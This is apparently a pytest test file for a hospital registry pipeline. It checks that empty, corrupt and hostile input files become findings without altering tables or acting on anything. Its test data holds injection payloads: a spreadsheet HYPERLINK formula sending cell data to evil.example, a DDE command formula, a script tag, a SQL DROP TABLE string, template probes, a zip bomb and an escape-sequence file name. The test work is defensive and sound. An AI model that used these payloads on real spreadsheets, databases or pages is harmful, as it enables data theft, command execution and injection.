"""A whole refresh over an inbox in which hardly anything is right.

Three refreshes of one tiny hospital: good files; then only files that hold nothing usable; then hostile content
through the command. Every file is a finding or one line, nothing is lost, no value acts. What single readers do
with such files stands in ``test_hostile_files.py``.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import threading
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import polars as pl
import pytest

from registry_pipeline.home import Home
from registry_pipeline.steps.refresh import RefreshReport, refresh, take_in
from registry_pipeline.store.serve import current_release, release_ids
from tests.support.registry_home import (
    CONTACT_HEADER,
    HOSPITAL,
    N_PATIENTS,
    PATIENT_HEADER,
    ask,
    assert_balanced,
    assert_one_line,
    assert_same_tables,
    good_files,
    patient_row,
    patients_csv,
    registry,
    send,
    send_all,
    small_home,
    tables,
    without_reports,
)

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile")]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
CALCULATOR = "=cmd|' /C calc'!A0"
TEXTS = (
    FORMULA,
    CALCULATOR,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "'; DROP TABLE patient; --",
    "{{ 7*7 }} ${7*7}",
    "\u202egnp.exe",
    "long " + "x" * 3000,
)
PASSWORD = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900)
)
# Files that hold nothing usable -> rule, severity, words of the reason; none of them may change a table.
USELESS: dict[str, tuple[bytes, str, str, str]] = {
    "patients_empty.csv": (b"", "S01", "error", "no bytes"),
    "patients_header.csv": (f"{PATIENT_HEADER}\n".encode(), "S01", "warning", "no rows"),
    "patients_binary.csv": (bytes(range(256)) * 40, "S01", "error", "not text"),
    "patients_password.xlsx": (PASSWORD, "S01", "error", "password"),
    "deaths_encoding.csv": ("number,died,note\nK0001,2019-09-09,患者死亡\n".encode("gb18030"), "S01", "error", "decode"),
    "patients_column.csv": (b"number,sex,diagnosed\nK0001,female,2015-01-01\nK0002,female,2015-02-01\n", "S02", "error", "missing"),
    "letters.csv": (b"a,b\n1,2\n", "S02", "error", "no source takes this file"),
}  # fmt: skip


def bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("patients.csv", b"number,born\n" + bytes(15 * 2**20))
    return packed.getvalue()


def hostile_files() -> dict[str, str | bytes]:
    """Files of which some rows can be used and others cannot."""
    good = [patient_row(number) for number in range(N_PATIENTS)]
    texts = [patient_row(100 + at, region=text, histology=text) for at, text in enumerate(TEXTS)]
    wrong = [
        patient_row(120, sex=FORMULA),
        patient_row(121, born=CALCULATOR),
        patient_row(122, stage="<script>alert(2)</script>"),
    ]
    ragged = "K0001,V9101,2019-08-01,alive\nK0002,V9102\nK0004,V9103,2019-08-01,alive,too,many\nK0005,V9104,2019-08-01,alive\n"
    nul = b"\nK0001,V9001,2019-07-01,alive\nK00\x0002,V9002,2019-07-01,alive\nK0002,V9003,2019-07-01,al\x00ive\n"
    return {
        "patients_2.csv": patients_csv([*good, *texts, *wrong]),
        "patients_3.csv": patients_csv(
            [patient_row(3, region="Elsewhere", born="1931-01-01"), patient_row(40)]
        ),
        "patients_cell.csv": patients_csv([patient_row(60, histology="z" * 5_000_000), patient_row(61)]),
        "contacts_nul.csv": CONTACT_HEADER.encode() + nul,
        "contacts_ragged.csv": f"{CONTACT_HEADER}\n{ragged}",
        "contacts_double.csv": "number,visit,seen,state,seen\nK0001,V9201,2019-09-01,alive,2019-09-02\n",
        "contacts_\x1b[31m\n.csv": f"{CONTACT_HEADER}\nK0001,V9301,2019-10-01,alive\n",
        "patients_bomb.zip": bomb(),
    }


@dataclass(frozen=True)
class Hostile:
    """The hospital's home after its three refreshes.

    Attributes:
        good, useless, hostile: ids of the releases.
        landing: report of the second refresh.
        done: the command of the third.
    """

    home: Home
    good: str
    useless: str
    hostile: str
    landing: RefreshReport
    done: subprocess.CompletedProcess[str]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    home = small_home(tmp_path_factory.mktemp("hostile") / "home")
    send_all(home, good_files())
    with without_reports():
        good = refresh(home).release_id
        send_all(home, {name: content for name, (content, *_) in USELESS.items()})
        landing = refresh(home)
    send_all(home, hostile_files())
    _litter(home)
    done = _refresh_while_a_file_grows(home)
    return Hostile(home, good, landing.release_id, current_release(home) or "", landing, done)


def _litter(home: Home) -> None:
    """What is no file of a facility."""
    inbox = home.inbox / HOSPITAL
    (inbox / "old_exports").mkdir()
    (inbox / "old_exports" / "patients.csv").write_text("number\n1\n", encoding="utf-8")
    (inbox / "patients_9.csv.part").write_text("number,bo", encoding="utf-8")
    (inbox / "~$patients_2.xlsx").write_bytes(b"lock of a spreadsheet")
    (inbox / "patients_link.csv").symlink_to(home.settings_file)
    os.mkfifo(inbox / "patients_pipe.csv")
    (home.inbox / "nroth").mkdir()
    (home.inbox / "nroth" / "patients.csv").write_text("number\n1\n", encoding="utf-8")


def _refresh_while_a_file_grows(home: Home) -> subprocess.CompletedProcess[str]:
    home.settings_file.write_text(
        home.settings_file.read_text(encoding="utf-8").replace("settle_seconds = 0", "settle_seconds = 1"),
        encoding="utf-8",
    )
    growing = send(home, "contacts_growing.csv", f"{CONTACT_HEADER}\n")
    is_over = threading.Event()

    def grow() -> None:
        number = 0
        while not is_over.is_set():
            with growing.open("a", encoding="utf-8") as out:
                out.write(f"K0001,V8{number:04d},2019-11-01,alive\n")
            number += 1
            time.sleep(0.05)

    writer = threading.Thread(target=grow)
    writer.start()
    try:
        return registry(home, "refresh", "--plain")
    finally:
        is_over.set()
        writer.join()


def findings(made: Hostile, release_id: str) -> pl.DataFrame:
    return ask(made.home, "FROM quality.finding WHERE status IN ('open', 'reopened')", release_id)


def test_each_useless_file_is_one_finding(made: Hostile) -> None:
    found = findings(made, made.useless).filter(pl.col("rule_id").is_in(["S01", "S02"]))
    errors = found.group_by("source_file").agg("rule_id", "severity", "message")
    told = {
        file: list(zip(rules, levels, texts, strict=True))
        for file, rules, levels, texts in errors.iter_rows()
    }
    assert set(told) == set(USELESS)
    for name, (_, rule_id, severity, words) in USELESS.items():
        assert any(one[:2] == (rule_id, severity) and words in one[2] for one in told[name]), (
            name,
            told[name],
        )


def test_useless_files_change_no_table(made: Hostile) -> None:
    """Above all an empty export of a full source must not replace what is there by nothing."""
    layers = ("curated", "mart", "result")
    assert_same_tables(tables(made.home, layers, made.useless), tables(made.home, layers, made.good))
    assert ask(made.home, "SELECT count(*) FROM curated.patient", made.useless).item() == N_PATIENTS


def test_every_file_is_accounted_for_and_balances(made: Hostile) -> None:
    for release_id in (made.good, made.useless, made.hostile):
        assert_balanced(made.home, release_id)
    account = ask(made.home, "FROM quality.row_account", made.hostile)
    by_file = {row["source_file"]: row for row in account.to_dicts()}
    landed = {path.name for path in made.home.inbox.joinpath(HOSPITAL).iterdir()}
    assert set(by_file) >= (set(USELESS) | set(good_files()))
    assert len(by_file) == account.height == 3 + len(USELESS) + len(hostile_files())
    assert "contacts_growing.csv" in landed and "contacts_growing.csv" not in by_file
    unused = ask(
        made.home, "FROM quality.row_account WHERE source_file = 'patients_column.csv'", made.useless
    )
    assert unused.select("n_read", "n_rejected").row(0) == (2, 2)
    assert by_file["patients_column.csv"]["n_superseded"] == 2
    assert (by_file["contacts_ragged.csv"]["n_read"], by_file["contacts_ragged.csv"]["n_rejected"]) == (4, 2)
    assert (by_file["contacts_nul.csv"]["n_read"], by_file["contacts_nul.csv"]["n_rejected"]) == (3, 2)
    assert (by_file["patients_cell.csv"]["n_read"], by_file["patients_cell.csv"]["n_rejected"]) == (2, 1)
    assert by_file["patients_1.csv"]["n_superseded"] == N_PATIENTS
    assert by_file["patients_2.csv"]["n_read"] == N_PATIENTS + len(TEXTS) + 3


def test_rows_that_cannot_be_read_are_findings_with_their_line(made: Hostile) -> None:
    found = findings(made, made.hostile).filter(pl.col("rule_id") == "S15")
    assert set(found.select("source_file", "source_row").iter_rows()) == {
        ("contacts_nul.csv", 3),
        ("contacts_nul.csv", 4),
        ("contacts_ragged.csv", 3),
        ("contacts_ragged.csv", 4),
        ("patients_cell.csv", 2),
    }


def test_good_rows_beside_bad_ones_are_used(made: Hostile) -> None:
    visits = set(ask(made.home, "SELECT followup_id FROM curated.followup", made.hostile)["followup_id"])
    assert {f"north-{one}" for one in ("V9001", "V9101", "V9104", "V9201", "V9301")} <= visits
    assert not {f"north-{one}" for one in ("V9002", "V9003", "V9102", "V9103")} & visits
    numbers = set(
        ask(made.home, "SELECT source_patient_id FROM curated.patient", made.hostile)["source_patient_id"]
    )
    assert {"K0040", "K0061"} <= numbers
    assert "K0060" not in numbers


def test_two_files_that_claim_one_record_are_a_finding_and_quarantine(made: Hostile) -> None:
    found = findings(made, made.hostile).filter(pl.col("rule_id") == "V01")
    assert set(found["items"]) == {"birth_date", "residence_region"}
    assert "error" in found["severity"]
    patients = ask(made.home, "SELECT source_patient_id FROM curated.patient", made.hostile)[
        "source_patient_id"
    ]
    assert "K0003" not in patients
    held = ask(
        made.home,
        "SELECT table_name, reason FROM quality.quarantine WHERE cause LIKE 'V01%' OR reason = 'parent'",
    )
    assert {"patient", "primary_tumour", "followup", "death"} <= set(held["table_name"])


def test_duplicate_column_names_are_kept_apart_and_told(made: Hostile) -> None:
    found = findings(made, made.hostile).filter(pl.col("source_file") == "contacts_double.csv")
    assert found["rule_id"].to_list() == ["S02"]
    day = ask(made.home, "SELECT contact_date::TEXT FROM curated.followup WHERE followup_id = 'north-V9201'")
    assert day.item() == "2019-09-01"


def test_the_archive_that_would_burst_is_not_opened(made: Hostile) -> None:
    found = findings(made, made.hostile).filter(pl.col("source_file") == "patients_bomb.zip")
    assert found.select("rule_id", "severity").row(0) == ("S01", "error")
    biggest = max(path.stat().st_size for path in made.home.store.rglob("*") if path.is_file())
    assert biggest < 2 * 2**20


def test_what_is_no_file_is_one_line_each(made: Hostile) -> None:
    assert made.done.returncode == 0, made.done.stderr
    assert "Traceback" not in made.done.stdout + made.done.stderr
    lines = [line for line in made.done.stderr.splitlines() if line.startswith("inbox/")]
    expected = {
        "inbox/north/old_exports": "is a folder",
        "inbox/north/patients_9.csv.part": "unfinished transfer",
        "inbox/north/patients_link.csv": "is a link",
        "inbox/north/patients_pipe.csv": "no regular file",
        "inbox/nroth": "did you mean 'north'",
        "inbox/north/contacts_growing.csv": "still being written",
    }
    assert {line.partition(": ")[0]: line for line in lines}.keys() == expected.keys()
    for line in lines:
        assert expected[line.partition(": ")[0]] in line
    assert made.landing.landing.problems == []


def test_names_of_files_cannot_command_a_terminal(made: Hostile) -> None:
    names = ask(made.home, "SELECT source_file FROM meta.submission", made.hostile)["source_file"].to_list()
    assert r"contacts_\x1b[31m\x0a.csv" in names
    assert all(name.isprintable() for name in names)
    assert "\x1b" not in made.done.stdout + made.done.stderr


def test_a_grown_file_is_taken_when_it_rests(made: Hostile) -> None:
    """Last of the tests of this home: it lands one more file, and makes no release."""
    report = take_in(made.home)
    assert [one.source_file for one in report.landed] == ["contacts_growing.csv"]
    assert report.waiting == []
    assert current_release(made.home) == made.hostile


def test_hostile_text_is_kept_as_it_was(made: Hostile) -> None:
    found = ask(
        made.home,
        "SELECT residence_region, morphology_text FROM curated.patient JOIN curated.primary_tumour USING (patient_id)",
        made.hostile,
    )
    assert set(TEXTS) <= set(found["residence_region"])
    assert set(TEXTS) <= set(found["morphology_text"])
    values = set(findings(made, made.hostile)["value_text"])
    assert {FORMULA, CALCULATOR, "<script>alert(2)</script>"} <= values


def test_exported_findings_cannot_act_in_a_spreadsheet(made: Hostile, tmp_path: Path) -> None:
    done = registry(made.home, "findings", "--format", "csv")
    assert done.returncode == 0, done.stderr
    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
    assert {f"'{FORMULA}", f"'{CALCULATOR}"} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    book = tmp_path / "findings.xlsx"
    done = registry(made.home, "findings", "--format", "xlsx", "--out", str(book))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(book) as archive:
        parts = {
            name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")
        }
    assert not [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text]
    assert any("=HYPERLINK(" in text for text in parts.values())


def test_the_reports_of_the_release_quote_no_script(made: Hostile) -> None:
    pages = list((made.home.releases / made.hostile).rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert "{{ 7*7 }}" not in text or "49 $" not in text


def test_releases_before_are_as_they_were(made: Hostile) -> None:
    assert release_ids(made.home) == [made.good, made.useless, made.hostile]
    assert ask(made.home, "SELECT count(*) FROM curated.patient", made.good).item() == N_PATIENTS
    assert ask(made.home, "SELECT previous_release_id FROM meta.release", made.hostile).item() == made.useless


# ------------------------------------------------------------------------------- without any release


def test_a_file_that_may_not_be_read_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The system's refusal is simulated: the superuser may read everything."""
    home = small_home(tmp_path / "home")
    locked = send(home, "patients_1.csv", patients_csv([patient_row(1)]))
    may = os.access
    monkeypatch.setattr(os, "access", lambda path, *more: Path(path) != locked and may(path, *more))
    report = take_in(home)
    assert report.landed == []
    assert [str(one) for one in report.problems] == [
        "inbox/north/patients_1.csv: may not be read; check its owner and mode"
    ]
    monkeypatch.undo()
    assert [one.source_file for one in take_in(home).landed] == ["patients_1.csv"]


def test_nothing_received_is_one_line(tmp_path: Path) -> None:
    home = small_home(tmp_path / "home")
    done = registry(home, "refresh", "--plain")
    assert done.returncode == 1
    assert_one_line(done.stderr)
    assert "no file has been received yet" in done.stderr
    assert current_release(home) is None


def test_a_registry_without_records_is_an_empty_release_with_its_finding(tmp_path: Path) -> None:
    home = small_home(tmp_path / "home")
    send(home, "patients_1.csv", b"")
    with without_reports():
        assert refresh(home).is_new
    assert ask(home, "SELECT count(*) FROM curated.patient").item() == 0
    assert ask(home, "SELECT rule_id FROM quality.finding")["rule_id"].to_list() == ["S01"]
    assert_balanced(home)


def test_a_mapping_with_a_mistake_names_its_line(tmp_path: Path) -> None:
    home = small_home(tmp_path / "home")
    mapping = home.facilities / f"{HOSPITAL}.toml"
    mapping.write_text(
        mapping.read_text(encoding="utf-8").replace('birth_date = "born"', 'birth_dat = "born"'),
        encoding="utf-8",
    )
    send_all(home, good_files())
    done = registry(home, "refresh", "--plain")
    assert done.returncode == 2
    assert_one_line(done.stderr)
    assert "north.toml" in done.stderr and "birth_date" in done.stderr


def test_a_blocking_rule_that_does_not_exist_is_told(tmp_path: Path) -> None:
    """A slip here would let through what was to be held back."""
    home = small_home(tmp_path / "home", blocking_rules='["V2"]')
    send_all(home, good_files())
    done = registry(home, "refresh", "--plain")
    assert done.returncode == 2
    assert_one_line(done.stderr)
    assert "registry.toml" in done.stderr and "V2" in done.stderr
